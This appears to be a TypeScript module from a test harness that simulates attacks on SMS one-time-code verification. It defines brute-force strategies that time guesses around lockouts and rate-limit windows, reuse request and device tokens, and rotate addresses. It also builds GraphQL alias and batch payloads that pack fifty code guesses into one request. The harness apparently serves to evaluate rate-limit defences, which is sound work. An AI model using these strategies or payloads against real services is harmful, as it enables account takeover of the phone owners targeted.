import { freshAddress } from './addresses.js';
import { type Campaign, DAY, HOUR, MINUTE, SECOND } from './campaign.js';
import { CodeVictim } from './code-victim.js';
import { freshNumber } from './numbers.js';

/** A strategy for guessing the codes of one number. Each request comes from another address. */
export interface Strategy {
  readonly name: string;
  /** The attacker guesses with request tokens, too. */
  readonly tokens?: true;
  run(campaign: Campaign): Promise<void>;
}

const PARALLEL = 100;
const PER_DOCUMENT = 50;

export const codeStrategies: readonly Strategy[] = [
  {
    name: 'a hundred at once, again when the lock ends',
    async run(campaign) {
      const victim = new CodeVictim(campaign);
      while (!campaign.over) {
        await victim.request();
        const answers = await campaign.volley(victim.times(PARALLEL, () => victim.verify()));
        await campaign.waitOut(answers, MINUTE);
      }
    },
  },
  {
    name: 'a new code after every third guess',
    async run(campaign) {
      const victim = new CodeVictim(campaign);
      while (!campaign.over) {
        const sent = await victim.request();
        for (let guess = 0; guess < 3; guess += 1) {
          const answers = await campaign.volley([victim.verify()]);
          if (answers[0]?.kind === 'AccountLockedError') await campaign.waitOut(answers, 0);
        }
        await campaign.waitOut([sent], MINUTE);
      }
    },
  },
  {
    name: 'one every twelve minutes, below the lock',
    async run(campaign) {
      const victim = new CodeVictim(campaign);
      while (!campaign.over) {
        await victim.request();
        await campaign.volley([victim.verify()]);
        await campaign.wait(12 * MINUTE);
      }
    },
  },
  {
    name: 'every operation that takes a code, side by side',
    async run(campaign) {
      const victim = new CodeVictim(campaign);
      while (!campaign.over) {
        await victim.request();
        const guesses = [...victim.times(5, () => victim.verify()), ...victim.times(5, () => victim.register())];
        const answers = await campaign.volley(guesses);
        await campaign.waitOut(answers, MINUTE);
      }
    },
  },
  {
    name: 'at the edges of locks, hours and days',
    async run(campaign) {
      const victim = new CodeVictim(campaign);
      while (!campaign.over) {
        const answers = await campaign.volley(victim.times(4, () => victim.verify()));
        const locked = Math.max(0, ...answers.map(({ retryAfterSeconds }) => retryAfterSeconds ?? 0)) * SECOND;
        const next = nextEdge(campaign, campaign.now + (locked || HOUR / 4));
        for (const instant of [next - 1, next, next + 1]) {
          await campaign.waitUntil(instant);
          await campaign.volley(victim.times(4, () => victim.verify()));
        }
      }
    },
  },
  {
    name: 'beside an owner who signs in every two hours',
    async run(campaign) {
      const victim = new CodeVictim(campaign);
      while (!campaign.over) {
        await victim.ownerSignsIn();
        await campaign.volley(victim.times(5, () => victim.verify()));
        await campaign.wait(2 * HOUR);
      }
    },
  },
  {
    name: 'fifty in one document, or in one body',
    async run(campaign) {
      const victim = new CodeVictim(campaign);
      while (!campaign.over) {
        await victim.request();
        for (const body of [aliases(victim.number), batch(victim.number)]) {
          await campaign.bulk(PER_DOCUMENT, () => campaign.target.api.send(body));
          await campaign.wait(SECOND);
        }
        await campaign.wait(6 * HOUR);
      }
    },
  },
];

/** Guesses with the request tokens of the attacker's own requests: each costs a text. */
export const tokenStrategies: readonly Strategy[] = [
  {
    name: 'three with each request token, again each minute',
    tokens: true,
    async run(campaign) {
      const victim = new CodeVictim(campaign);
      while (!campaign.over) {
        const sent = await victim.request();
        const { requestToken } = sent;
        for (let guess = 0; guess < 3; guess += 1) await campaign.volley([victim.verify({ requestToken })]);
        await campaign.waitOut([sent], MINUTE);
      }
    },
  },
  {
    name: 'a hundred at once with each request token',
    tokens: true,
    async run(campaign) {
      const victim = new CodeVictim(campaign);
      while (!campaign.over) {
        const { requestToken } = await victim.request();
        const answers = await campaign.volley(victim.times(PARALLEL, () => victim.verify({ requestToken })));
        await campaign.waitOut(answers, MINUTE);
      }
    },
  },
  {
    name: 'all request tokens of a day, beside guesses without',
    tokens: true,
    async run(campaign) {
      const victim = new CodeVictim(campaign);
      const tokens: string[] = [];
      while (!campaign.over) {
        const sent = await victim.request();
        if (sent.requestToken !== null) tokens.push(sent.requestToken);
        const withTokens = tokens.slice(-20).map((requestToken) => victim.verify({ requestToken }));
        await campaign.volley([...withTokens, ...victim.times(5, () => victim.verify())]);
        await campaign.waitOut([sent], MINUTE);
      }
    },
  },
];

/** Only for a service with device tokens. */
export const deviceStrategy: Strategy = {
  name: 'with the device tokens of 25 other accounts',
  async run(campaign) {
    const { api } = campaign.target;
    const tokens: (string | null)[] = [];
    for (let account = 0; account < 25; account += 1) {
      const own = new CodeVictim(campaign, freshNumber());
      tokens.push((await own.ownerSignsIn()).deviceToken);
    }
    if (tokens.some((token) => token === null)) throw new Error('A sign-in gave no device token.');
    const victim = new CodeVictim(campaign);
    while (!campaign.over) {
      await victim.request();
      const address = freshAddress();
      await campaign.volley(tokens.map((deviceToken) => victim.verify({ deviceToken }, { address })));
      await campaign.volley(victim.times(10, () => victim.verify()));
      await campaign.wait(api.deviceTokens ? HOUR : DAY);
    }
  },
};

/** The first instant from `from` on at which an earlier guess is exactly an hour or a day old. */
function nextEdge(campaign: Campaign, from: number): number {
  const edges = campaign.evaluated.flatMap((instant) => [instant + HOUR, instant + DAY]);
  return Math.min(...edges.filter((edge) => edge >= from), from + HOUR);
}

function aliases(number: string): string {
  const field = (index: number) =>
    `g${index}: verifyOtp(input: { phoneNumber: "${number}", otp: "${100000 + index}" })`;
  const fields = Array.from({ length: PER_DOCUMENT }, (_, index) => `${field(index)} { __typename }`);
  return JSON.stringify({ query: `mutation { ${fields.join(' ')} }` });
}

function batch(number: string): string {
  const query = 'mutation ($input: VerifyOtpInput!) { verifyOtp(input: $input) { __typename } }';
  const operations = Array.from({ length: PER_DOCUMENT }, (_, index) => ({
    query,
    variables: { input: { phoneNumber: number, otp: String(100_000 + index) } },
  }));
  return JSON.stringify(operations);
}
